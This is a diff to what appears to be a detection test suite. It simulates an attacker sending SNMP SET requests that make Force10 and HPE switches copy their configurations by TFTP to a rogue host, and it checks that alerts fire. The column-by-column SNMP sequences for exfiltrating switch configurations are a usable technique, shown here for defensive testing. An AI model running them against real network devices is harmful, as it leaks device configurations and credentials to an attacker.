@@ -70,7 +70,7 @@ def raised(manager: str, rules: dict[str, tuple[str, int]]) -> tuple[Raised, ...
 
 
 LOADING = {"10.0.1.31": ("BW03", 5), "10.0.1.32": ("BW03", 5), "10.0.1.33": ("BW03", 9), "10.0.1.34": ("BW03", 7)}
-SENDING = {"10.0.1.31": ("BW03", 4), "10.0.1.32": ("BW03", 4), "10.0.1.33": ("BW03", 4)}
+SENDING = {f"10.0.1.{n}": ("BW03", 4) for n in (31, 32, 33, 34)}
 IMAGING = {"10.0.1.31": ("BW04", 3), "10.0.1.32": ("BW04", 3), "10.0.1.35": ("BW04", 2)}
 ERASING = {
     "10.0.1.31": ("BW03", 3),
@@ -104,12 +104,15 @@ def bw03_more_brands(wire: Wire) -> None:
     plain=Expect(alerts=generic(raised(ATTACKER, SENDING))),
     site=HQ,
     with_site=Expect(
-        told("SNMP_Config_Copy", ROGUE, {"10.0.1.31": "stolen", "10.0.1.32": "stolen", "10.0.1.33": "stolen"}),
+        (
+            *told("SNMP_Config_Copy", ROGUE, {f"10.0.1.{n}": "stolen" for n in (31, 32, 33)}),
+            Notice("SNMP_Config_Copy", "10.0.1.34"),
+        ),
         compiled(raised(ATTACKER, SENDING)),
     ),
 )
 def bw03_more_brands_send(wire: Wire) -> None:
-    """A Force10 and two HPE switches are told to send their configurations: running, startup, and column by column."""
+    """A Force10 and two HPE switches are told to send their configurations, one column by column; a third to serve it."""
     where = IPv4Address(ROGUE)
     f10 = {2: RUNNING, 5: FILE, 6: TFTP, 7: "stolen", 8: where, 15: CREATE_AND_GO}
     snmp.Manager(wire, ATTACKER, "10.0.1.31").set(*snmp.row(FORCE10, 2**31 - 1, f10))
@@ -118,6 +121,7 @@ def bw03_more_brands_send(wire: Wire) -> None:
     manager = snmp.Manager(wire, ATTACKER, "10.0.1.33")
     for columns in ({13: 5}, {18: 3}, {17: 2}, {9: 2}, {2: 1}, {3: to_inet(ROGUE)}, {4: "stolen"}, {10: 1}, {13: 1}):
         manager.set(*snmp.row(HP_INET, 1, columns))
+    snmp.Manager(wire, ATTACKER, "10.0.1.34").set((f"{HP_DOWNLOAD}.6.0", 1))
 
 
 @scenario(
